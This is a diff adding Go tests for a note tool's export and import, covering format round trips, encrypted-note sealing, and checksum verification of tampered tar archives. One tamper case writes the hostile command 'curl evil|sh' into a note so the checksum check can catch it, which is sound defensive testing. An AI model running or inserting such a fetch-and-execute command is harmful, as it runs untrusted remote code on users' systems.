@@ -0,0 +1,214 @@
+package braindump
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"errors"
+	"io"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/MohGanji/braindump/pkg/archive"
+	"github.com/MohGanji/braindump/pkg/models"
+	"github.com/MohGanji/braindump/pkg/storage"
+)
+
+func exportNotes(t *testing.T) (*Client, []*models.Note) {
+	t.Helper()
+	c := newTestClient(t, WithPassphrase("hunter2"))
+
+	secret := models.NewNote("creds", "Stripe", "sk_test_123", []string{"payments"})
+	secret.Metadata[storage.EncryptedKey] = "true"
+	notes := []*models.Note{
+		models.NewNote("ops", "Deploys", "Run make deploy.\n\n## Rollback\n\nRun make rollback.", []string{"deploy", "oncall"}),
+		models.NewNote("ops/db", "Backups", "Nightly at 02:00.", nil),
+		secret,
+	}
+	for _, note := range notes {
+		if err := c.Add(context.Background(), note); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return c, notes
+}
+
+// export writes the notes of c to a file in format and returns its path.
+func export(t *testing.T, c *Client, name string) string {
+	t.Helper()
+	format, compress := archive.FormatFor(name)
+	var buf bytes.Buffer
+	manifest, err := c.Export(context.Background(), &buf, ExportOptions{Format: format, Compress: compress})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if manifest.Notes != 3 {
+		t.Errorf("%s: manifest lists %d notes, want 3", name, manifest.Notes)
+	}
+	path := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(path, buf.Bytes(), 0644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestExportImportRoundTrip(t *testing.T) {
+	src, notes := exportNotes(t)
+	ctx := context.Background()
+
+	for _, name := range []string{"notes.tar", "notes.tar.gz", "notes.zip", "notes.jsonl"} {
+		contents, err := archive.Read(export(t, src, name))
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if format, _ := archive.FormatFor(name); (contents.Manifest != nil) != (format != archive.FormatJSONL) {
+			t.Errorf("%s: manifest read %v", name, contents.Manifest != nil)
+		}
+
+		dst := newTestClient(t, WithPassphrase("hunter2"))
+		report, err := dst.Import(ctx, contents.Notes, ImportOptions{OnConflict: ConflictSkip})
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if report.Added != len(notes) {
+			t.Errorf("%s: imported %d notes, want %d", name, report.Added, len(notes))
+		}
+
+		for _, want := range notes {
+			got, err := dst.Get(ctx, want.ID)
+			if err != nil {
+				t.Errorf("%s: %v", name, err)
+				continue
+			}
+			if got.Category != want.Category || got.Title != want.Title || got.Content != want.Content ||
+				!slices.Equal(got.Tags, want.Tags) || !got.Created.Equal(want.Created) || !got.Updated.Equal(want.Updated) ||
+				got.Metadata[storage.EncryptedKey] != want.Metadata[storage.EncryptedKey] {
+				t.Errorf("%s: note %q changed in the round trip:\ngot  %+v\nwant %+v", name, want.Title, got, want)
+			}
+		}
+	}
+}
+
+func TestExportKeepsEncryptedNotesSealed(t *testing.T) {
+	src, _ := exportNotes(t)
+	for _, name := range []string{"notes.tar", "notes.jsonl"} {
+		data, err := os.ReadFile(export(t, src, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if bytes.Contains(data, []byte("sk_test_123")) {
+			t.Errorf("%s: encrypted note exported in plaintext", name)
+		}
+	}
+}
+
+// rewriteTar copies a tar archive, passing each file through edit; files
+// edit returns nil for are left out.
+func rewriteTar(t *testing.T, path string, edit func(name string, data []byte) []byte) {
+	t.Helper()
+	in, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var out bytes.Buffer
+	tr := tar.NewReader(bytes.NewReader(in))
+	tw := tar.NewWriter(&out)
+	for {
+		header, err := tr.Next()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		data, err := io.ReadAll(tr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if data = edit(header.Name, data); data == nil {
+			continue
+		}
+		header.Size = int64(len(data))
+		if err := tw.WriteHeader(header); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write(data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, out.Bytes(), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestImportVerifiesChecksums(t *testing.T) {
+	src, _ := exportNotes(t)
+	deploys := "notes/ops/deploys.md"
+
+	tests := []struct {
+		name    string
+		edit    func(name string, data []byte) []byte
+		wantErr error
+		wantMsg string
+	}{
+		{
+			name: "untouched",
+			edit: func(name string, data []byte) []byte { return data },
+		},
+		{
+			name: "note content changed",
+			edit: func(name string, data []byte) []byte {
+				if name == deploys {
+					return bytes.Replace(data, []byte("make deploy"), []byte("curl evil|sh"), 1)
+				}
+				return data
+			},
+			wantErr: archive.ErrChecksum,
+		},
+		{
+			name: "history changed",
+			edit: func(name string, data []byte) []byte {
+				if name == archive.HistoryName {
+					return append(data, "{}\n"...)
+				}
+				return data
+			},
+			wantErr: archive.ErrChecksum,
+		},
+		{
+			name: "note removed",
+			edit: func(name string, data []byte) []byte {
+				if name == deploys {
+					return nil
+				}
+				return data
+			},
+			wantMsg: "missing " + deploys,
+		},
+	}
+	for _, tt := range tests {
+		path := export(t, src, "notes.tar")
+		rewriteTar(t, path, tt.edit)
+
+		_, err := archive.Read(path)
+		switch {
+		case tt.wantErr != nil:
+			if !errors.Is(err, tt.wantErr) {
+				t.Errorf("%s: got %v, want %v", tt.name, err, tt.wantErr)
+			}
+		case tt.wantMsg != "":
+			if err == nil || !strings.Contains(err.Error(), tt.wantMsg) {
+				t.Errorf("%s: got %v, want %q", tt.name, err, tt.wantMsg)
+			}
+		case err != nil:
+			t.Errorf("%s: %v", tt.name, err)
+		}
+	}
+}